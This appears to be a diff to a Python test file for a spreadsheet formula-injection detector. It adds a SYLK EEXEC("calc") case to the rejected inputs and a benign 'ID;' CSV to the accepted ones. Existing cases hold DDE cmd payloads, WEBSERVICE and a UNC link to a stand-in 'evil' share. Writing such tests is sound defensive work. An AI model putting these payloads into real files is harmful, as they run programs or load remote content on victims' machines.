@@ -177,6 +177,7 @@ def test_a_large_workbook_with_formulas_is_looked_through_in_time(tmp_path):
         ("a\n＝cmd|'/c calc'!A0\n", "会运行程序"),
         ('a\n"=\nWEBSERVICE(A1)"\n', "会从别处载入"),
         ("a\n='\\\\evil\\share\\[x.xls]Sheet1'!A1\n", "会从别处载入"),
+        ('ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc")\nE\n', "交换格式"),
         ("a,1\n" * 600_000 + "b,=cmd|'/c calc'!A1\n", "的第600001行第2列里有会运行程序"),
     ],
 )
@@ -195,6 +196,7 @@ def test_a_separated_text_is_refused_with_line_and_column(tmp_path, text, words,
         "@张三（组长） 请到会\n",
         '"=HYPERLINK(""https://www.gov.cn"",""a"")"\n',
         "+86 13900000000\n",
+        "ID;Phone;Name\n1;2;3\n",
         "-5,foo\n" * 300_000,
     ],
 )
